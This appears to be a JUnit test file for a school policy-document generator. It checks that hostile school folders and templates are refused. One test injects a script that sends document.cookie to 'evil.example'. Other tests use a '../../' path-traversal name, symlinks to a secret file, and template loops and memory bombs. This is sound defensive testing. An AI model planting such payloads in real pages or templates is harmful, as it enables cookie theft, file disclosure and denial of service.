package uk.policygen.hostile;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.RandomAccessFile;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.concurrent.atomic.AtomicInteger;

import com.sun.net.httpserver.HttpServer;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.text.PDFTextStripper;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import uk.policygen.profile.Fixture;
import uk.policygen.profile.ProfileLoader;
import uk.policygen.publish.PackBuilder;

/**
 * The school's folder, its templates and the PDF renderer under attack: nothing outside the
 * school's folder is read or published, the renderer fetches nothing, no script is published,
 * and text the PDF cannot print is an error rather than a silent "#" or cut-off.
 */
class SchoolFolderHostileTest {
    static final Path TEMPLATES = Fixture.PROJECT.resolve("templates");
    static final String SECTION = """
            local_sections:
              - title: Our own section
                document: mobile
                after: appendix
                file: local.md
            """;

    @TempDir
    Path temp;
    Fixture fx;
    Path own;
    Path secret;

    @BeforeEach
    void setUp() throws IOException {
        fx = new Fixture(temp);
        own = Files.createDirectories(fx.schools().resolve("test"));
        secret = temp.resolve("secret.txt");
        Files.writeString(secret, "root:x:0:0:SECRET-PASSWORD-LINE");
    }

    PackBuilder.Outcome build(String yaml) throws IOException {
        fx.write("test", yaml);
        PackBuilder b = new PackBuilder(fx.schools(), TEMPLATES, temp.resolve("out"), Fixture.TODAY);
        return b.build(b.loader().profileOf("test"));
    }

    List<String> errors(PackBuilder.Outcome o) {
        String prefix = ProfileLoader.display(fx.schools()) + "/";
        return o.problems().stream().filter(p -> p.isError()).map(p -> p.toString().replace(prefix, "")).toList();
    }

    void assertNothingPublishedOrLeaked(PackBuilder.Outcome o) throws IOException {
        assertThat(o.ok()).isFalse();
        assertThat(temp.resolve("out/test")).doesNotExist();
        assertThat(o.problems().toString()).doesNotContain("SECRET-PASSWORD-LINE");
    }

    @Test
    void aLogoLinkedToASystemFileIsRefusedWhereItIsNamed() throws IOException {
        Files.createSymbolicLink(own.resolve("logo.png"), secret);
        PackBuilder.Outcome o = build(Fixture.VALID.replace("  type: primary\n", "  type: primary\n  logo: logo.png\n"));
        assertNothingPublishedOrLeaked(o);
        assertThat(errors(o)).singleElement().asString().startsWith("test.yml:6:9: school.logo: test/logo.png is a link to " + secret.toRealPath()
                + ", outside the school's folder");
    }

    @Test
    void aSectionLinkedToASystemFileIsRefused() throws IOException {
        Files.createSymbolicLink(own.resolve("local.md"), secret);
        PackBuilder.Outcome o = build(Fixture.VALID + SECTION);
        assertNothingPublishedOrLeaked(o);
        assertThat(errors(o)).singleElement().asString().contains("local_sections[0].file: test/local.md is a link to");
    }

    @Test
    void aSectionLinkedThroughALinkedFolderIsRefused() throws IOException {
        Files.createDirectories(temp.resolve("elsewhere"));
        Files.copy(secret, temp.resolve("elsewhere/local.md"));
        Files.createSymbolicLink(own.resolve("sub"), temp.resolve("elsewhere"));
        PackBuilder.Outcome o = build(Fixture.VALID + SECTION.replace("file: local.md", "file: sub/local.md"));
        assertNothingPublishedOrLeaked(o);
        assertThat(errors(o).toString()).contains("is a link to");
    }

    @Test
    void aNameThatClimbsOutIsRefused() throws IOException {
        PackBuilder.Outcome o = build(Fixture.VALID + SECTION.replace("file: local.md", "file: ../../secret.txt"));
        assertNothingPublishedOrLeaked(o);
        assertThat(errors(o).toString()).contains("points outside the school's folder");
    }

    @Test
    void aHugeFileInTheFolderIsRefusedBySizeNotRead() throws IOException {
        try (RandomAccessFile f = new RandomAccessFile(own.resolve("local.md").toFile(), "rw")) {
            f.setLength(3L * 1024 * 1024 * 1024); // a sparse 3 GB "video" named as a section
        }
        PackBuilder.Outcome o = build(Fixture.VALID + SECTION);
        assertNothingPublishedOrLeaked(o);
        assertThat(errors(o).toString()).contains("test/local.md is 3072.0 MiB; expected a file under 1.0 MiB");
    }

    @Test
    void aProfileOutsideTheSchoolsFolderIsNotRead() throws IOException {
        Files.writeString(temp.resolve("x.yml"), Fixture.VALID);
        ProfileLoader loader = new ProfileLoader(fx.schools(), Fixture.TODAY);
        ProfileLoader.Result r = loader.load(loader.profileOf("../x"));
        assertThat(r.ok()).isFalse();
        assertThat(r.problems().toString()).contains("is not in the schools folder");
        Files.createSymbolicLink(fx.schools().resolve("linked.yml"), temp.resolve("x.yml"));
        r = loader.load(loader.profileOf("linked"));
        assertThat(r.ok()).isFalse();
        assertThat(r.problems().toString()).contains("is a link to");
    }

    @Test
    void aSchoolsFolderWrittenWithDotSlashStillFindsItsSections() throws IOException {
        Files.writeString(own.resolve("local.md"), "Our words.\n");
        fx.write("test", Fixture.VALID + SECTION);
        ProfileLoader.Result r = new ProfileLoader(temp.resolve("./schools"), Fixture.TODAY).load(temp.resolve("./schools/test.yml"));
        assertThat(r.problems().stream().filter(p -> p.isError())).isEmpty();
    }

    @Test
    void aLayoutOverrideCannotPublishAScript() throws IOException {
        Path layout = Files.createDirectories(own.resolve("templates/_layout"));
        String model = Files.readString(TEMPLATES.resolve("model/_layout/index.ftlh"));
        Files.writeString(layout.resolve("index.ftlh"), model.replace("</body>", "<script>fetch('https://evil.example/'+document.cookie)</script></body>"));
        PackBuilder.Outcome o = build(Fixture.VALID);
        assertThat(o.ok()).isFalse();
        assertThat(errors(o).toString()).contains("index.html: a <script> element").contains("never publishes");
        assertThat(temp.resolve("out/test")).doesNotExist();
    }

    @Test
    void thePdfRendererFetchesNothing() throws IOException {
        AtomicInteger requests = new AtomicInteger();
        HttpServer server = HttpServer.create(new InetSocketAddress("127.0.0.1", 0), 0);
        server.createContext("/", ex -> {
            requests.incrementAndGet();
            ex.sendResponseHeaders(404, -1);
            ex.close();
        });
        server.start();
        try {
            String base = "http://127.0.0.1:" + server.getAddress().getPort();
            Path png = temp.resolve("local.png");
            Files.write(png, Files.readAllBytes(Fixture.PROJECT.resolve("src/main/resources/fonts/LICENSE-DejaVu.txt")));
            Path layout = Files.createDirectories(own.resolve("templates/_layout"));
            String model = Files.readString(TEMPLATES.resolve("model/_layout/policy.ftlh"));
            Files.writeString(layout.resolve("policy.ftlh"), model.replace("</head>",
                    "<style>@import url(" + base + "/a.css); body { background: url(" + base + "/bg.png) }</style>"
                            + "<link rel=stylesheet href=\"" + base + "/b.css\"></head>")
                    .replace("</body>", "<img src=\"" + base + "/pixel.png\" alt=x><img src=\"" + png.toUri() + "\" alt=y></body>"));
            PackBuilder.Outcome o = build(Fixture.VALID);
            assertThat(o.ok()).isFalse();
            assertThat(errors(o).toString()).contains("asks the PDF renderer to load").contains(base);
            assertThat(requests.get()).as("requests the build made").isZero();
            assertThat(temp.resolve("out/test")).doesNotExist();
        } finally {
            server.stop(0);
        }
    }

    @Test
    void aTemplateLinkedOutOfItsFolderIsALocatedErrorNotACrash() throws IOException {
        Path dir = Files.createDirectories(own.resolve("templates/mobile-and-smart-technology"));
        Path outside = temp.resolve("evil.ftl");
        Files.writeString(outside, "## Aims\n\n${school.name}\n");
        Files.createSymbolicLink(dir.resolve("01-aims-and-scope.ftl"), outside);
        PackBuilder.Outcome o = build(Fixture.VALID);
        assertThat(o.ok()).isFalse();
        assertThat(errors(o).toString()).contains("01-aims-and-scope.ftl").contains("a template is a link leading outside its templates folder");
    }

    @Test
    void anEndlessTemplateLoopIsStoppedWithALocatedError() throws IOException {
        Path dir = Files.createDirectories(own.resolve("templates/mobile-and-smart-technology"));
        Files.writeString(dir.resolve("01-aims-and-scope.ftl"), "## Aims\n\n<#list 1..1000000000 as i><#list 1..1000000000 as j></#list></#list>\n");
        System.setProperty("policygen.template.seconds", "2");
        try {
            long t0 = System.nanoTime();
            PackBuilder.Outcome o = build(Fixture.VALID);
            assertThat(o.ok()).isFalse();
            assertThat(errors(o).toString()).contains("01-aims-and-scope.ftl").contains("ran for over 2 seconds and was stopped");
            assertThat((System.nanoTime() - t0) / 1e9).isLessThan(30);
            assertThat(Thread.currentThread().isInterrupted()).isFalse();
        } finally {
            System.clearProperty("policygen.template.seconds");
        }
    }

    @Test
    void aRecursiveMacroAndAnEndlessWriterAndAMemoryBombAreLocatedErrors() throws IOException {
        Path dir = Files.createDirectories(own.resolve("templates/mobile-and-smart-technology"));
        Path section = dir.resolve("01-aims-and-scope.ftl");
        Files.writeString(section, "## Aims\n\n<#macro r n><@r n+1/></#macro><@r 1/>\n");
        PackBuilder.Outcome o = build(Fixture.VALID);
        assertThat(errors(o).toString()).contains("01-aims-and-scope.ftl").contains("calls itself");

        Files.writeString(section, "## Aims\n\n<#list 1..1000000000 as i>All work and no play. </#list>\n");
        o = build(Fixture.VALID);
        assertThat(errors(o).toString()).contains("01-aims-and-scope.ftl").contains("million characters and was stopped");

        Files.writeString(section, "## Aims\n\n<#assign s = \"xxxxxxxx\"><#list 1..64 as i><#assign s = s + s></#list>${s?length}\n");
        o = build(Fixture.VALID);
        assertThat(o.ok()).isFalse();
        assertThat(errors(o).toString()).contains("01-aims-and-scope.ftl");
        assertThat(temp.resolve("out/test")).doesNotExist();
    }

    @Test
    void aLongWordWrapsInThePdfAndLosesNothing() throws IOException {
        String word = "A" + "b".repeat(498) + "Z";
        Files.writeString(own.resolve("local.md"), "Before " + word + " after.\n");
        PackBuilder.Outcome o = build(Fixture.VALID + SECTION);
        assertThat(o.ok()).as(o.problems().toString()).isTrue();
        try (PDDocument doc = Loader.loadPDF(temp.resolve("out/test/mobile-and-smart-technology-policy.pdf").toFile())) {
            List<String> offPage = new java.util.ArrayList<>();
            PDFTextStripper stripper = new PDFTextStripper() {
                @Override
                protected void writeString(String text, List<org.apache.pdfbox.text.TextPosition> positions) throws IOException {
                    float width = getCurrentPage().getMediaBox().getWidth();
                    for (org.apache.pdfbox.text.TextPosition t : positions) {
                        if (t.getXDirAdj() + t.getWidthDirAdj() > width) offPage.add(t.getUnicode());
                    }
                    super.writeString(text, positions);
                }
            };
            String text = stripper.getText(doc).replaceAll("\\s+", "");
            assertThat(text).contains(word);
            assertThat(offPage).as("letters printed beyond the page edge").isEmpty();
        }
    }

    @Test
    void aTableTooWideForThePageIsRefusedNotCut() throws IOException {
        StringBuilder md = new StringBuilder();
        for (int row = 0; row < 3; row++) {
            md.append('|');
            for (int c = 1; c <= 14; c++) md.append(row == 1 ? " --- |" : " Column" + c + " |");
            md.append('\n');
        }
        Files.writeString(own.resolve("local.md"), md.toString());
        PackBuilder.Outcome o = build(Fixture.VALID + SECTION);
        assertThat(o.ok()).isFalse();
        assertThat(errors(o).toString()).contains("a table of 14 columns; expected at most 8");
    }

    @Test
    void anSvgLogoIsRefusedNotSilentlyLeftOut() throws IOException {
        Files.writeString(own.resolve("logo.svg"), "<svg xmlns='http://www.w3.org/2000/svg' width='10' height='10'><rect width='10' height='10'/></svg>");
        PackBuilder.Outcome o = build(Fixture.VALID.replace("  type: primary\n", "  type: primary\n  logo: logo.svg\n"));
        assertThat(o.ok()).isFalse();
        assertThat(errors(o).toString()).contains("is not a PNG or JPEG image; expected the logo saved as PNG or JPEG (export the SVG as a PNG)");
    }

    @Test
    void aLogoThatIsNotAPictureIsRefusedNotSilentlyLeftOut() throws IOException {
        // Before the renderer's warnings reached the build, such a school built "ok" with no logo in its PDFs.
        Files.write(own.resolve("logo.png"), "This is not a picture, only words in a file called logo.png.".repeat(20).getBytes(StandardCharsets.UTF_8));
        PackBuilder.Outcome o = build(Fixture.VALID.replace("  type: primary\n", "  type: primary\n  logo: logo.png\n"));
        assertThat(o.ok()).isFalse();
        assertThat(errors(o).toString()).contains("is not a PNG or JPEG image; expected the logo saved as PNG or JPEG")
                .doesNotContain("base64");
    }

    @Test
    void unprintableLettersInASectionAreAnError() throws IOException {
        Files.writeString(own.resolve("local.md"), "Contact 王芳 for help.\n", StandardCharsets.UTF_8);
        PackBuilder.Outcome o = build(Fixture.VALID + SECTION);
        assertThat(o.ok()).isFalse();
        assertThat(errors(o).toString()).contains("王 (U+738B, Han script) is not in the PDF's fonts (Noto Sans, DejaVu Sans) and would print as #");
    }
}
